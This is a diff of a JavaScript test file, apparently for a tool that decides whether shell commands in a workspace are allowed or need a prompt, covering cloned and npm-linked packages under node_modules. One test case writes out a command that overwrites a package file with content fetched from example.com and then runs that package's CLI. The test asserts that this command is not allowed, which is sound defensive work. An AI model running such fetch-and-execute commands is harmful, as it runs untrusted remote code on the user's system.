@@ -72,6 +72,9 @@ test('a package file the line may change first, or the workspace linked in as a 
       'curl -o node_modules/fakec/lib/big.js https://example.com/x && ./node_modules/fakec/bin/cli.js',
     ])
       assert.notEqual(decide(c).split(' ')[0], 'allow', c);
+    // A clone into node_modules is no install: its files are all as fresh as its package.json.
+    fs.mkdirSync(path.join(ws, PKG, '.git'));
+    assert.match(decide('node node_modules/fakec/bin/cli.js'), /^ask .*parse\.too-complex/);
     // `npm link`-style: node_modules/own is the workspace's own folder, whatever its times.
     fs.mkdirSync(path.join(ws, 'own', 'bin'), { recursive: true });
     fs.writeFileSync(path.join(ws, 'own', 'package.json'), '{"name":"own"}\n');
